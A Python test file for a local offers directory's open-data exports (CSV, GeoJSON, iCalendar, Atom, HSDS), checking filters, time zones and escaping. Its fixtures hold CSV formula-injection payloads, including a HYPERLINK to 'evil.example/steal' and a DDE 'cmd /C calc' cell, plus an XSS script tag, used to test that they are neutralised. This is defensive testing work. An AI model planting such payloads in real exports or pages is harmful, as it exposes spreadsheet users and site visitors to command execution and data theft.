"""GeoJSON, CSV, iCalendar and Atom of published offers."""
from __future__ import annotations

import csv
import datetime as dt
import io
import re
import xml.etree.ElementTree as ET
import zipfile
from zoneinfo import ZoneInfo

from dateutil.rrule import rrulestr
from icalendar import Calendar

from directory.core import csv as csv_file
from directory.extensions import db
from directory.opendata import formats
from tests.factories import make_location, make_offer, make_org, slot

BERLIN = ZoneInfo("Europe/Berlin")
ATOM = "{http://www.w3.org/2005/Atom}"


def total(client, query: str) -> int:
    return client.get("/api/v1/offers?" + query).get_json()["meta"]["total"]


def test_geojson_has_one_point_per_place_of_the_search_result(demo_client):
    data = demo_client.get("/api/v1/offers.geojson?language=ar").get_json()
    assert data["type"] == "FeatureCollection"
    ids = {o["id"] for f in data["features"] for o in f["properties"]["offers"]}
    assert len(ids) == total(demo_client, "language=ar")
    for feature in data["features"]:
        lon, lat = feature["geometry"]["coordinates"]
        assert 52.1 < lat < 52.5 and 8.7 < lon < 9.1  # Minden, in GeoJSON's lon,lat order


def test_csv_of_the_search_result(demo_client):
    response = demo_client.get("/api/v1/offers.csv?district=baerenkaempen&target=women_girls")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    text = response.get_data(as_text=True)
    assert text.startswith("\ufeffid;title;")  # German Excel: UTF-8 with BOM, semicolons
    rows = list(csv.DictReader(io.StringIO(text.lstrip("\ufeff")), delimiter=";"))
    assert len(rows) == total(demo_client, "district=baerenkaempen&target=women_girls") > 0
    assert all("Bärenkämpen" in r["districts"] for r in rows)
    assert list(rows[0]) == list(formats.CSV_COLUMNS)


def test_csv_cells_cannot_become_formulas(app, client):
    make_offer(title="=HYPERLINK(\"http://evil.example\")", summary="+1")
    db.session.commit()
    rows = list(csv.DictReader(io.StringIO(client.get("/api/v1/offers.csv").get_data(as_text=True).lstrip("\ufeff")),
                               delimiter=";"))
    assert rows[0]["title"].startswith("'=")


def test_formats_reject_bad_filters_like_the_search(demo_client):
    for url in ("/api/v1/offers.csv?district=atlantis", "/api/v1/offers.geojson?page=0",
                "/api/v1/offers.ics?sort=distance", "/api/v1/feed.atom?language=xx"):
        response = demo_client.get(url)
        assert response.status_code == 400 and response.get_json()["error"]["field"], url


def _events(body: bytes):
    cal = Calendar.from_ical(body)
    assert cal.walk("VTIMEZONE")[0]["TZID"] == "Europe/Berlin"
    return cal.walk("VEVENT")


def test_offer_calendar_weekly_slots_repeat_and_one_off_dates_do_not(app, client):
    next_monday = dt.date.today() + dt.timedelta(days=7 - dt.date.today().weekday())
    offer = make_offer(
        title="Sprachcafé, mittwochs; und ein Fest",
        valid_to=dt.date.today() + dt.timedelta(days=60),
        schedules=[slot("wed", "18:00", "20:00"),
                   slot("sat", "14:00", "19:00", date=next_monday + dt.timedelta(days=5)),
                   slot("fri", "10:00", "11:00", date=dt.date.today() - dt.timedelta(days=3))],  # over
    )
    db.session.commit()
    response = client.get(f"/api/v1/offers/{offer.id}.ics")
    assert response.status_code == 200 and response.mimetype == "text/calendar"
    events = _events(response.get_data())
    assert len(events) == 2  # the past date is left out
    weekly = next(e for e in events if "RRULE" in e)
    once = next(e for e in events if "RRULE" not in e)
    assert str(weekly["SUMMARY"]) == "Sprachcafé, mittwochs; und ein Fest"
    start = weekly.decoded("DTSTART")
    assert start.tzinfo is not None and str(start.tzinfo) in ("Europe/Berlin", "CET", "CEST")
    assert start.weekday() == 2 and start.hour == 18
    rule = rrulestr(weekly["RRULE"].to_ical().decode(), dtstart=start)
    dates = list(rule)
    assert all(d.weekday() == 2 for d in dates)
    assert dates[-1].date() <= dt.date.today() + dt.timedelta(days=60)
    assert once.decoded("DTSTART").date() == next_monday + dt.timedelta(days=5)
    assert once.decoded("DTSTART").hour == 14 and once.decoded("DTEND").hour == 19
    assert str(once["UID"]) != str(weekly["UID"])


def test_calendar_of_a_search_result_covers_its_offers(demo_client):
    body = demo_client.get("/api/v1/offers.ics?language=uk").get_data()
    uids = {str(e["UID"]) for e in _events(body)}
    offer_ids = {int(re.match(r"offer-(\d+)-", u).group(1)) for u in uids}
    listed = {o["id"] for o in demo_client.get("/api/v1/offers?language=uk&per_page=100").get_json()["data"]}
    assert offer_ids and offer_ids <= listed


def test_calendar_of_a_draft_is_404(app, client):
    offer = make_offer(status="draft", schedules=[slot("tue", "09:00", "10:00")])
    db.session.commit()
    assert client.get(f"/api/v1/offers/{offer.id}.ics").status_code == 404


def test_atom_feed_lists_new_and_changed_offers_newest_first(app, client):
    org = make_org(name="Feed-Verein")
    old = make_offer(organization=org, title="Alt")
    new = make_offer(organization=org, title="Neu")
    make_offer(organization=org, title="Entwurf", status="draft")
    db.session.commit()
    old.updated_at = dt.datetime(2025, 1, 1, 8, 0)
    new.updated_at = dt.datetime(2026, 3, 1, 8, 0)
    db.session.commit()
    response = client.get("/api/v1/feed.atom")
    assert response.mimetype == "application/atom+xml"
    feed = ET.fromstring(response.get_data())
    titles = [e.findtext(f"{ATOM}title") for e in feed.findall(f"{ATOM}entry")]
    assert titles == ["Neu", "Alt"]
    assert feed.findtext(f"{ATOM}updated") == "2026-03-01T08:00:00Z"
    entry = feed.find(f"{ATOM}entry")
    assert entry.find(f"{ATOM}link").get("href").endswith(f"/angebote/{new.id}")
    assert entry.findtext(f"{ATOM}author/{ATOM}name") == "Feed-Verein"


def test_feed_can_be_filtered(demo_client):
    feed = ET.fromstring(demo_client.get("/api/v1/feed.atom?district=baerenkaempen").get_data())
    assert "Bärenkämpen" in feed.findtext(f"{ATOM}title")
    assert 0 < len(feed.findall(f"{ATOM}entry")) <= 50


def test_provider_text_is_escaped_in_xml_and_calendar(app, client):
    offer = make_offer(title="<script>alert(1)</script> & Co", summary="Zeile 1\nZeile 2; mit, Zeichen",
                       schedules=[slot("mon", "10:00", "11:00")],
                       locations=[make_location(name="Raum <b>", address="Weg 1")])
    db.session.commit()
    feed = client.get("/api/v1/feed.atom").get_data(as_text=True)
    assert "<script>" not in feed and "&lt;script&gt;" in feed
    event = _events(client.get(f"/api/v1/offers/{offer.id}.ics").get_data())[0]
    assert str(event["SUMMARY"]) == "<script>alert(1)</script> & Co"
    assert "Zeile 1\nZeile 2; mit, Zeichen" in str(event["DESCRIPTION"])


def test_search_and_offer_pages_link_their_formats(demo_client):
    html = demo_client.get("/?language=ar&district=baerenkaempen&page=1").get_data(as_text=True)
    links = re.findall(r'href="(/api/v1/[^"]+)"', html)
    assert "/api/v1/offers.csv?language=ar&amp;district=baerenkaempen" in links
    for link in links:
        response = demo_client.get(link.replace("&amp;", "&"))
        assert response.status_code == 200, link
        assert "page=" not in link
    offer_id = demo_client.get("/api/v1/offers?per_page=1").get_json()["data"][0]["id"]
    page = demo_client.get(f"/angebote/{offer_id}").get_data(as_text=True)
    assert f'/api/v1/offers/{offer_id}' in page


def test_open_data_page_links_every_download(demo_client):
    html = demo_client.get("/daten/").get_data(as_text=True)
    for link in re.findall(r'href="(/api/v1/[^"]+)"', html):
        assert demo_client.get(link).status_code == 200, link


EVIL = '=HYPERLINK("http://evil.example/steal","klick")'


def _risky(cell: str) -> bool:
    """Would a spreadsheet run this cell as a formula?"""
    return cell[:1] in ("=", "+", "-", "@", "\t", "\r") and not csv_file.guard(cell) == cell


def test_no_csv_of_the_api_carries_a_formula(app, client):
    org = make_org(name="@SUM(1+1)*cmd", description="+HYPERLINK(1)", phone="+49 571 000-1000")
    make_offer(organization=org, title=EVIL, summary="-1+1+cmd|' /C calc'!A0", cost="=1+1",
               contact_name="=Frau", contact_phone="+49 571 1234",
               locations=[make_location(organization=org, name="=Ort", address="@Straße 1")],
               schedules=[slot("tue", "09:30", "11:30", note="=Hinweis")])
    db.session.commit()
    offers = client.get("/api/v1/offers.csv").get_data(as_text=True)
    rows = list(csv.reader(io.StringIO(offers.lstrip("\ufeff")), delimiter=";"))
    assert "'" + EVIL in rows[1] and "'@SUM(1+1)*cmd" in rows[1] and "'=1+1" in rows[1]
    assert "+49 571 1234" in rows[1]  # phone numbers stay as they are
    cells = [c for r in rows for c in r]

    archive = zipfile.ZipFile(io.BytesIO(client.get("/api/v1/export/hsds.zip").get_data()))
    hsds_cells = []
    for name in archive.namelist():
        if name.endswith(".csv"):
            text = archive.read(name).decode("utf-8")
            assert not text.startswith("\ufeff") and text.split("\r\n", 1)[0].count(",") >= 2  # plain RFC 4180
            hsds_cells += [c for r in csv.reader(io.StringIO(text)) for c in r]
    assert "'" + EVIL in hsds_cells and "'@SUM(1+1)*cmd" in hsds_cells and "'=Hinweis" in hsds_cells
    assert "+49 571 000-1000" in hsds_cells
    assert [c for c in cells + hsds_cells if _risky(c)] == []
    # the JSON forms carry the text as it is
    assert client.get("/api/v1/export/hsds.json").get_json()["service"][0]["name"] == EVIL


ODD_TITLE = "Kurs\nmit\r\nUmbrüchen; Kommas, \\Backslash\x0b\x07 und عربي 🙂"


def test_a_title_with_line_breaks_and_odd_characters_gives_valid_icalendar(app, client):
    summer = dt.date(dt.date.today().year + 1, 7, 7)
    offer = make_offer(title=ODD_TITLE, summary="Zeile 1\nZeile 2",
                       schedules=[slot("tue", "09:30", "11:30", note="Bitte\r\nklingeln"),
                                  slot("tue", "18:00", "19:00", date=summer)])
    db.session.commit()
    for url in (f"/api/v1/offers/{offer.id}.ics", "/api/v1/offers.ics?q=Kurs"):
        response = client.get(url)
        assert response.status_code == 200, url
        body = response.get_data()
        lines = body.split(b"\r\n")
        assert lines[-1] == b"" and all(b"\n" not in line and b"\r" not in line for line in lines)
        assert all(len(line) <= 75 for line in lines)  # folded as RFC 5545 says
        assert not re.search(rb"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]", body)
        cal = Calendar.from_ical(body)
        assert "\n" not in str(cal["X-WR-CALNAME"])
        event = next(e for e in cal.walk("VEVENT") if "RRULE" in e)
        assert str(event["SUMMARY"]) == "Kurs\nmit\nUmbrüchen; Kommas, \\Backslash und عربي 🙂"
        assert "Bitte\nklingeln" in str(event["DESCRIPTION"])
    cal = Calendar.from_ical(client.get(f"/api/v1/offers/{offer.id}.ics").get_data())
    [zone] = cal.walk("VTIMEZONE")  # written by icalendar from the time-zone database
    assert zone["TZID"] == "Europe/Berlin"
    assert {c.name for c in zone.subcomponents} == {"STANDARD", "DAYLIGHT"}
    once = next(e for e in cal.walk("VEVENT") if "RRULE" not in e)
    start = once.decoded("DTSTART")
    assert start.utcoffset() == dt.timedelta(hours=2) and start.hour == 18  # summer time
    assert cal.get_missing_tzids() == set()
